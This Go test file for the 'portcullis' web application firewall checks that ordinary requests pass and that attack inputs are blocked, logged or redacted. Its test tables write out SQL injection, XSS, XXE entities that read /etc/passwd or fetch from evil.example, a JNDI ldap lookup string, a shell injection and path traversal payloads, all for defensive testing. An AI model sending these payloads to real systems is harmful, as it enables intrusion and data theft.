package waf

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/audit"
	"github.com/portcullis-waf/portcullis/config"
)

// nativeStage is the default stage (profile portcullis) with next
// recording whether the request was forwarded and what body arrived.
func nativeStage(t *testing.T, s config.WAFSettings) (*Stage, *forwardLog) {
	t.Helper()
	e, err := Compile(s)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.Close() })
	fw := &forwardLog{}
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fw.n++
		fw.body, _ = io.ReadAll(r.Body)
		w.WriteHeader(http.StatusOK)
	})
	return NewStage(e, s, next, Recording{Redactor: audit.NewRedactor(nil, nil), BodyLimit: 4096}), fw
}

type forwardLog struct {
	n    int
	body []byte
}

// req builds a request: method, target, content type, body, extra headers
// as name, value pairs.
func req(method, target, ctype, body string, headers ...string) *http.Request {
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	r := httptest.NewRequest(method, target, rd)
	if ctype != "" {
		r.Header.Set("Content-Type", ctype)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Header.Add(headers[i], headers[i+1])
	}
	return r
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func gz(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.String()
}

// The false-positive shapes issue 15 names, through the default stage:
// each is forwarded untouched and no finding reaches the threshold.
func TestNativePassesOrdinaryTraffic(t *testing.T) {
	stage, fw := nativeStage(t, config.DefaultWAF())
	protobuf := "\x0a\x05hello\x12\x0bwidget-blue\x18\x96\x01\x22\x0dJohn O'Neil\x00\x01"
	for _, tt := range []struct {
		name string
		r    *http.Request
	}{
		{"text/plain beacon", req("POST", "/analytics/beacon", "text/plain;charset=UTF-8", `{"event":"page_view","path":"/docs/intro","ts":1712345678901,"ref":"https://www.example.com/"}`)},
		{"protobuf", req("POST", "/api.v1.Catalog/GetItem", "application/x-protobuf", protobuf)},
		{"protobuf (application/protobuf)", req("POST", "/sync", "application/protobuf", protobuf)},
		{"ndjson", req("POST", "/_bulk", "application/x-ndjson", "{\"index\":{\"_id\":\"1\"}}\n{\"msg\":\"user signed in\",\"level\":\"info\"}\n{\"msg\":\"select a plan, then union the two lists\",\"level\":\"debug\"}\n")},
		{"json stream", req("POST", "/ingest", "application/x-json-stream", "{\"a\":1}\n{\"b\":\"two\"}\n")},
		{"csp-report", req("POST", "/csp", "application/csp-report", `{"csp-report":{"document-uri":"https://shop.example.com/cart","referrer":"","violated-directive":"img-src","effective-directive":"img-src","original-policy":"default-src 'self'; img-src 'self' https://cdn.example.com","blocked-uri":"https://tracker.example.net/p.gif","status-code":200}}`)},
		{"reports+json", req("POST", "/reports", "application/reports+json", `[{"type":"deprecation","age":10,"url":"https://example.com/","body":{"id":"PrefixedStorageInfo","message":"'window.webkitStorageInfo' is deprecated.","lineNumber":12}}]`)},
		{"x-amz-json", req("POST", "/", "application/x-amz-json-1.1", `{"TableName":"Orders","Key":{"id":{"S":"o-1842"}}}`, "X-Amz-Target", "DynamoDB_20120810.GetItem")},
		{"zsh prose", req("GET", "/search?q="+url.QueryEscape("zsh is the best!"), "", "")},
		{"union select prose", req("POST", "/comments", "application/x-www-form-urlencoded", "body="+url.QueryEscape("union was a great select of players this year"))},
		{"e-mail with or", req("POST", "/signup", "application/x-www-form-urlencoded", "email="+url.QueryEscape("george.orwell@example.com")+"&name="+url.QueryEscape("Orla O'Rourke"))},
		{"JavaScript book title", req("GET", "/books?title="+url.QueryEscape("JavaScript: The Good Parts"), "", "")},
		{"cross-site navigation", req("GET", "/products/42?utm_source=newsletter&session_hint=abc123", "", "",
			"Referer", "https://news.example.net/article?id=77&ref=home", "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "navigate",
			"Cookie", "sessionid=9f8e7d6c5b4a; theme=dark")},
		{"ordinary JSON", req("POST", "/api/v1/orders", "application/json", `{"user":{"name":"Ann","tags":["a","b"]},"ids":[1,2,3],"active":true,"note":"leave at the door, or ring twice"}`)},
		{"gzip JSON", req("POST", "/api/v1/orders", "application/json", gz(`{"items":[{"sku":"A-1","qty":2}]}`), "Content-Encoding", "gzip")},
		{"PUT", req("PUT", "/api/v1/pages/7", "application/json", `{"title":"About us"}`)},
		{"PATCH", req("PATCH", "/api/v1/pages/7", "application/merge-patch+json", `{"title":"About"}`)},
		{"DELETE", req("DELETE", "/api/v1/pages/7", "", "")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := fw.n
			w, entry := serveOne(stage, tt.r, "id")
			if w.Code != http.StatusOK || fw.n != before+1 {
				t.Fatalf("status %d, forwarded %v; record: %s %s %+v", w.Code, fw.n > before, entry.Action, entry.Reason, entry.Findings)
			}
			if entry.Action == audit.ActionBlocked || entry.Action == audit.ActionDetected {
				t.Errorf("record %s: %s", entry.Action, entry.Reason)
			}
		})
	}
}

// A POST without Content-Length (chunked) is inspected and forwarded whole.
func TestNativeChunkedPost(t *testing.T) {
	stage, fw := nativeStage(t, config.DefaultWAF())
	r := req("POST", "/notes", "text/plain", "remember the milk")
	r.ContentLength = -1
	r.TransferEncoding = []string{"chunked"}
	w, _ := serveOne(stage, r, "id")
	if w.Code != http.StatusOK || string(fw.body) != "remember the milk" {
		t.Fatalf("status %d, body %q", w.Code, fw.body)
	}
	r = req("POST", "/notes", "text/plain", "1' UNION SELECT password FROM users--")
	r.ContentLength = -1
	if w, _ := serveOne(stage, r, "id"); w.Code != http.StatusForbidden {
		t.Fatalf("chunked attack: status %d", w.Code)
	}
}

// The attack shapes issue 15 names as missed by the CRS, through the
// default stage: each is refused with 403, never forwarded, and the record
// names the class and, for encoded ones, the decoding chain.
func TestNativeBlocksMissedShapes(t *testing.T) {
	stage, fw := nativeStage(t, config.DefaultWAF())
	q := url.QueryEscape
	for _, tt := range []struct {
		name  string
		r     *http.Request
		class string
		chain string // expected in the blocking finding's chain, "" for any
	}{
		{"base64 SQL in a cookie", req("GET", "/account", "", "", "Cookie", "prefs="+b64("' UNION SELECT password FROM users--")), "sqli", "base64"},
		{"base64 XSS in a query", req("GET", "/r?next="+q(b64("<img src=x onerror=alert(1)>")), "", ""), "xss", "base64"},
		{"confirm.call", req("GET", "/s?q="+q("confirm.call(null,1)"), "", ""), "xss", ""},
		{"(alert)(1)", req("GET", "/s?q="+q("(alert)(1)"), "", ""), "xss", ""},
		{"alert?.()", req("POST", "/c", "application/x-www-form-urlencoded", "c="+q("alert?.(document.cookie)")), "xss", ""},
		{"template expression", req("GET", "/hello?name="+q("{{7*7}}"), "", ""), "ssti", ""},
		{"LDAP filter", req("GET", "/users?uid="+q("*(|(objectclass=*))"), "", ""), "ldap", ""},
		{"CRLF + SMTP verbs", req("POST", "/contact", "application/x-www-form-urlencoded", "from="+q("a@b.example>\r\nRCPT TO:<x@evil.example>\r\nDATA\r\n")), "crlf", ""},
		{"NoSQL $where", req("POST", "/login", "application/json", `{"user":"admin","pass":{"$where":"sleep(5000) || true"}}`), "nosql", ""},
		{"quote-split shell", req("GET", "/ping?host="+q("127.0.0.1; c'a't /et'c/pa'ss'wd"), "", ""), "shell", ""},
		{"XXE external entity", req("POST", "/soap", "text/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), "xxe", ""},
		{"XXE parameter entity", req("POST", "/soap", "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>`), "xxe", ""},
		{"SQL in a custom header", req("GET", "/api/items", "", "", "X-Customer-Id", "1' OR '1'='1' -- "), "sqli", ""},
		{"gzip body", req("POST", "/api/notes", "application/json", gz(`{"note":"<script>alert(document.domain)</script>"}`), "Content-Encoding", "gzip"), "xss", ""},
		{"raw text body", req("POST", "/beacon", "text/plain", "${jndi:ldap://evil.example/a}"), "jndi", ""},
		{"multipart file name", multipartReq("../../../../etc/passwd", "hello"), "traversal", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := fw.n
			w, entry := serveOne(stage, tt.r, "id")
			if w.Code != http.StatusForbidden || fw.n != before {
				t.Fatalf("status %d, forwarded %v; record %s %q %+v", w.Code, fw.n > before, entry.Action, entry.Reason, entry.Findings)
			}
			if entry.Action != audit.ActionBlocked || len(entry.Findings) == 0 {
				t.Fatalf("record %s %q, findings %+v", entry.Action, entry.Reason, entry.Findings)
			}
			f := entry.Findings[0]
			if f.Class != tt.class || !f.Blocking || f.Variable == "" || f.Detector == "" {
				t.Errorf("blocking finding %+v, want class %s", f, tt.class)
			}
			if tt.chain != "" && !strings.Contains(f.Chain, tt.chain) {
				t.Errorf("chain %q, want %q", f.Chain, tt.chain)
			}
			if !strings.Contains(entry.Reason, tt.class+" in "+f.Variable) {
				t.Errorf("reason %q does not name the class and variable", entry.Reason)
			}
		})
	}
}

func multipartReq(filename, content string) *http.Request {
	body := "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n" +
		"--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"" + filename + "\"\r\nContent-Type: text/plain\r\n\r\n" + content + "\r\n--XyZ--\r\n"
	return req("POST", "/upload", "multipart/form-data; boundary=XyZ", body)
}

// Detect mode records the finding and lets the request through.
func TestNativeDetectMode(t *testing.T) {
	s := config.DefaultWAF()
	s.Mode = config.ModeDetect
	stage, fw := nativeStage(t, s)
	w, entry := serveOne(stage, req("GET", "/s?q="+url.QueryEscape("' UNION SELECT password FROM users--"), "", ""), "id")
	if w.Code != http.StatusOK || fw.n != 1 {
		t.Fatalf("status %d, forwarded %d", w.Code, fw.n)
	}
	if entry.Action != audit.ActionDetected || len(entry.Findings) == 0 || entry.Findings[0].Class != "sqli" {
		t.Fatalf("record %s %q %+v", entry.Action, entry.Reason, entry.Findings)
	}
}

// Exclusions by class, detector, variable (exact and prefix) and path
// drop exactly the findings they name.
func TestNativeExclusions(t *testing.T) {
	attack := "/blog/post?comment=" + url.QueryEscape("' UNION SELECT password FROM users--")
	for _, tt := range []struct {
		name   string
		ex     config.ExclusionConfig
		target string
		want   int
	}{
		{"class", config.ExclusionConfig{Classes: []string{"sqli"}}, attack, http.StatusOK},
		{"detector", config.ExclusionConfig{Detectors: []string{"sqli"}}, attack, http.StatusOK},
		{"other class", config.ExclusionConfig{Classes: []string{"xss"}}, attack, http.StatusForbidden},
		{"variable", config.ExclusionConfig{Classes: []string{"sqli"}, Target: "ARGS:comment"}, attack, http.StatusOK},
		{"variable prefix", config.ExclusionConfig{Classes: []string{"sqli"}, Target: "ARGS:comm*"}, attack, http.StatusOK},
		{"other variable", config.ExclusionConfig{Classes: []string{"sqli"}, Target: "ARGS:q"}, attack, http.StatusForbidden},
		{"path prefix", config.ExclusionConfig{Classes: []string{"sqli"}, PathPrefix: "/blog"}, attack, http.StatusOK},
		{"other path", config.ExclusionConfig{Classes: []string{"sqli"}, PathPrefix: "/admin"}, attack, http.StatusForbidden},
		{"exact path", config.ExclusionConfig{Classes: []string{"sqli"}, ExactPath: "/blog/post"}, attack, http.StatusOK},
		{"method", config.ExclusionConfig{Classes: []string{"sqli"}, Methods: []string{"POST"}}, attack, http.StatusForbidden},
		{"rule ids only", config.ExclusionConfig{RuleIDs: []config.IDRange{{From: 942100, To: 942100}}}, attack, http.StatusForbidden},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := config.DefaultWAF()
			s.Exclusions = []config.ExclusionConfig{tt.ex}
			stage, _ := nativeStage(t, s)
			w, entry := serveOne(stage, req("GET", tt.target, "", ""), "id")
			if w.Code != tt.want {
				t.Fatalf("status %d, want %d; %s %+v", w.Code, tt.want, entry.Reason, entry.Findings)
			}
		})
	}
}

// A credential's evidence never reaches the record: cookies and
// password-like arguments are redacted, the variable still named.
func TestNativeEvidenceRedacted(t *testing.T) {
	stage, _ := nativeStage(t, config.DefaultWAF())
	for _, r := range []*http.Request{
		req("GET", "/", "", "", "Cookie", "sid=' UNION SELECT password FROM users--"),
		req("POST", "/login", "application/x-www-form-urlencoded", "user=a&password="+url.QueryEscape("' UNION SELECT password FROM users--")),
		req("POST", "/login", "application/json", `{"user":{"password":"' UNION SELECT password FROM users--"}}`),
	} {
		_, entry := serveOne(stage, r, "id")
		if len(entry.Findings) == 0 {
			t.Fatalf("%s: no finding", r.URL)
		}
		for _, f := range entry.Findings {
			if f.Evidence != audit.Redacted {
				t.Errorf("%s: evidence %q of %s kept", r.URL, f.Evidence, f.Variable)
			}
		}
	}
	_, entry := serveOne(stage, req("GET", "/?q="+url.QueryEscape("<script>alert(1)</script>"), "", ""), "id")
	if len(entry.Findings) == 0 || entry.Findings[0].Evidence == "" || entry.Findings[0].Evidence == audit.Redacted {
		t.Errorf("ordinary argument: %+v", entry.Findings)
	}
}

// Under stock-crs the detectors do not run: the CRS decides, and the
// record has rule matches, no findings.
func TestStockCRSProfile(t *testing.T) {
	s := config.DefaultWAF()
	s.Profile, s.CRS = config.ProfileStockCRS, true
	stage, _ := nativeStage(t, s)
	w, entry := serveOne(stage, req("GET", "/?q="+url.QueryEscape("<script>alert(1)</script>"), "", ""), "id")
	if w.Code != http.StatusForbidden || len(entry.Rules) == 0 || len(entry.Findings) != 0 {
		t.Fatalf("status %d, rules %d, findings %+v", w.Code, len(entry.Rules), entry.Findings)
	}
	// The CRS misses what the detectors catch (base64): the profile
	// really is the stock rule set.
	w, _ = serveOne(stage, req("GET", "/?q="+url.QueryEscape(b64("<img src=x onerror=alert(1)>")), "", ""), "id")
	if w.Code != http.StatusOK {
		t.Fatalf("stock CRS blocked base64: %d", w.Code)
	}
}

// Custom SecLang keeps working under the portcullis profile, before the
// detectors run.
func TestNativeCustomRules(t *testing.T) {
	s := config.DefaultWAF()
	s.RulesBefore = []config.RuleText{{Origin: "test", Text: `SecRule REQUEST_HEADERS:X-Deny "@streq 1" "id:10101,phase:1,deny,status:403,log"`}}
	stage, _ := nativeStage(t, s)
	w, entry := serveOne(stage, req("GET", "/", "", "", "X-Deny", "1"), "id")
	if w.Code != http.StatusForbidden || len(entry.Rules) == 0 || entry.Rules[0].ID != 10101 {
		t.Fatalf("status %d, rules %+v", w.Code, entry.Rules)
	}
}

// stockCRS is the stock-crs profile: what DefaultWAF was before the
// portcullis profile, for the tests of the engine's own behaviour (body
// limits, uploads, gates) written against it.
func stockCRS() config.WAFSettings {
	s := config.DefaultWAF()
	s.Profile, s.CRS = config.ProfileStockCRS, true
	return s
}
